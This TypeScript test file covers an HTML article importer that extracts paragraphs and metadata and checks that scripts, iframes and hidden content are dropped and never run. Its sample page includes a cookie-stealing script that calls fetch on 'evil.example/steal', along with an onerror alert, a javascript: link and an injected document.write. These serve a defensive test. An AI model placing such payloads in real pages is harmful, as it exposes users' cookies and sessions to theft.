import { describe, expect, it } from 'vitest'
import { parseDocument } from '../index'
import type { ParsedDocument } from '../../../../shared/domain'

const encode = (text: string): Uint8Array => new TextEncoder().encode(text)

async function parseHtml(html: string, name = 'page.html'): Promise<ParsedDocument> {
  const result = await parseDocument({ name, bytes: encode(html) })
  if (!result.ok) throw new Error(result.message)
  return result.doc
}

const PARAGRAPHS = [
  'The regional parliament approved the budget on Thursday after a debate that lasted more than eleven hours, officials said.',
  'Opposition members walked out before the final vote, arguing that spending on hospitals had been cut for a third year in a row.',
  'The finance minister said the plan would reduce the deficit by half within two years without raising income taxes.',
  'Analysts were divided on whether the growth forecasts underpinning the budget were realistic given the slowdown in exports.'
]

const ARTICLE_PAGE = `<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<title>Parliament passes budget | The Example Post</title>
<meta property="og:title" content="Parliament passes budget after marathon debate">
<meta property="og:site_name" content="The Example Post">
<meta name="author" content="Maria Ortega">
<meta property="article:published_time" content="2024-03-07T18:30:00+01:00">
<link rel="canonical" href="https://post.example.com/politics/budget-passes">
<script>window.stolen = document.cookie; fetch('https://evil.example/steal')</script>
<style>body { background: url(https://tracker.example/pixel.png) }</style>
</head><body>
<nav><a href="/">Home</a><a href="/politics">Politics</a></nav>
<article>
<h1>Parliament passes budget after marathon debate</h1>
${PARAGRAPHS.map((p, i) => `<p>${p}${i === 1 ? '<img src="https://tracker.example/p.gif" onerror="alert(1)">' : ''}</p>`).join('\n')}
<script>document.write('INJECTED SCRIPT TEXT')</script>
<iframe src="https://ads.example/frame"><p>IFRAME FALLBACK TEXT</p></iframe>
<p><a href="javascript:alert('x')">Read the full budget document</a> published by the ministry on its website today.</p>
</article>
<footer>© 2024 The Example Post</footer>
</body></html>`

describe('HTML import', () => {
  it('extracts the article paragraphs and the metadata', async () => {
    const doc = await parseHtml(ARTICLE_PAGE)
    expect(doc.format).toBe('html')
    expect(doc.encoding).toBe('utf-8')
    expect(doc.paragraphs.slice(0, 4)).toEqual(PARAGRAPHS)
    expect(doc.paragraphs[4]).toBe('Read the full budget document published by the ministry on its website today.')
    expect(doc.title).toBe('Parliament passes budget after marathon debate')
    expect(doc.outlet).toBe('The Example Post')
    expect(doc.byline).toBe('Maria Ortega')
    expect(doc.publishedAt).toBe('2024-03-07T18:30:00+01:00')
    expect(doc.url).toBe('https://post.example.com/politics/budget-passes')
    expect(doc.originalText).toBe(ARTICLE_PAGE)
  })

  it('never lets script, iframe or navigation text into the cleaned text, and runs nothing', async () => {
    const before = Object.keys(globalThis).length
    const doc = await parseHtml(ARTICLE_PAGE)
    for (const text of ['INJECTED SCRIPT TEXT', 'IFRAME FALLBACK TEXT', 'stolen', 'alert', 'tracker.example', 'Home', '©']) {
      expect(doc.cleanedText).not.toContain(text)
    }
    expect((globalThis as { stolen?: unknown }).stolen).toBeUndefined()
    expect(Object.keys(globalThis).length).toBe(before)
  })

  it('leaves out content hidden with inline styles or the hidden attribute', async () => {
    const doc = await parseHtml(
      `<html><body><article><p>${PARAGRAPHS[0]}</p><p style="color: red; display: none">HIDDEN BY STYLE</p><div hidden>HIDDEN BY ATTRIBUTE</div><p>${PARAGRAPHS[1]}</p><p>${PARAGRAPHS[2]}</p></article></body></html>`
    )
    expect(doc.cleanedText).not.toContain('HIDDEN')
    expect(doc.paragraphs).toEqual(PARAGRAPHS.slice(0, 3))
  })

  it('rejects a .html file that is binary', async () => {
    const bytes = Uint8Array.from({ length: 300 }, (_, i) => (i % 5 === 0 ? 0 : 0x41 + (i % 20)))
    expect(await parseDocument({ name: 'blob.html', bytes })).toEqual({ ok: false, code: 'IMPORT_BINARY', message: 'blob.html is not a text document (it contains binary data)' })
  })

  it('keeps the headline out of the paragraphs', async () => {
    const doc = await parseHtml(ARTICLE_PAGE)
    expect(doc.paragraphs).not.toContain('Parliament passes budget after marathon debate')
  })

  it('falls back to the body text of a page Readability finds nothing in', async () => {
    const doc = await parseHtml('<html><body><nav>Menu</nav><div>Short note.</div><div>Second line here.</div><script>x()</script></body></html>', 'note.htm')
    expect(doc.paragraphs).toEqual(['Short note.', 'Second line here.'])
  })

  it('reads an HTML fragment without <html> or <body>', async () => {
    const doc = await parseHtml('<p>First fragment paragraph.</p><p>Second <b>bold</b> paragraph.</p>')
    expect(doc.paragraphs).toEqual(['First fragment paragraph.', 'Second bold paragraph.'])
  })

  it('reads metadata from JSON-LD and <time>, and strips the outlet from <title>', async () => {
    const page = `<html><head><title>Storm hits coast - Coastal Daily</title>
<meta property="og:site_name" content="Coastal Daily">
<script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":"NewsArticle","author":[{"@type":"Person","name":"Ken Watanabe"}],"datePublished":"2023-09-01T06:00:00Z"}]}</script>
<script type="application/ld+json">{ not json</script>
</head><body><article><p>${PARAGRAPHS[0]}</p><p>${PARAGRAPHS[1]}</p><time datetime="2020-01-01">old</time></article></body></html>`
    const doc = await parseHtml(page)
    expect(doc.title).toBe('Storm hits coast')
    expect(doc.byline).toBe('Ken Watanabe')
    expect(doc.publishedAt).toBe('2023-09-01T06:00:00Z')
  })

  it('uses <time datetime> when nothing else dates the page', async () => {
    const doc = await parseHtml(`<html><body><article><time datetime="2022-05-04T10:00">May 4</time><p>${PARAGRAPHS[0]}</p><p>${PARAGRAPHS[2]}</p></article></body></html>`)
    expect(doc.publishedAt).toBe('2022-05-04T10:00')
  })

  it('decodes a page in its declared legacy charset', async () => {
    const head = encode('<html><head><meta charset="iso-8859-2"><title>Greetings</title></head><body><p>Pozdrowienia z ')
    const tail = encode('!</p><p>Drugi akapit tekstu.</p></body></html>')
    const bytes = new Uint8Array([...head, 0xa3, 0xf3, 0x64, 0xbc, 0x69, ...tail]) // "Łódźi" in ISO-8859-2
    const result = await parseDocument({ name: 'lodz.html', bytes })
    expect(result.ok && result.doc.encoding).toBe('iso-8859-2')
    expect(result.ok && result.doc.paragraphs[0]).toBe('Pozdrowienia z Łódźi!')
  })

  it('treats an extensionless file that is a web page as HTML', async () => {
    const result = await parseDocument({ name: 'saved-page', bytes: encode(ARTICLE_PAGE) })
    expect(result.ok && result.doc.format).toBe('html')
  })

  it('removes furniture left inside the article', async () => {
    const doc = await parseHtml(`<html><body><article><p>${PARAGRAPHS[0]}</p><p>Advertisement</p><p>${PARAGRAPHS[1]}</p><p>${PARAGRAPHS[2]}</p></article></body></html>`)
    expect(doc.paragraphs).toEqual(PARAGRAPHS.slice(0, 3))
    expect(doc.removed).toEqual([{ text: 'Advertisement', reason: 'advertising marker' }])
  })
})
